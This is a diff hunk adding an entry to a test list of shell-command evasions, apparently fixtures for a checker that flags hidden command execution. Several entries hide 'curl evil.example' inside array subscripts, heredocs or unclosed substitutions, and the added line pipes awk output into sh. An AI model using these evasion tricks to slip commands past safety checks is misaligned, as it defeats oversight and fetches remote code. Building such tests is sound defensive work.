@@ -369,6 +369,7 @@ export const EVASIONS: Evasion[] = [
   { command: "printf -v 'a[$(curl evil.example)]' x", rule: hidden },
   { command: "[[ -v 'a[$(curl evil.example)]' ]]", rule: hidden },
   { command: "cat > v.txt <<'EOF'\na[$(curl evil.example)]\nEOF", rule: hidden },
+  { command: `awk '{ print "${'x'.repeat(600)}" | "sh" }' README.md`, rule: 'default:code-in-arguments' },
   // The parser's own refusals.
   { command: 'echo $(curl evil.example', rule: 'parse' },
   { command: 'if true; then curl evil.example', rule: 'parse' },
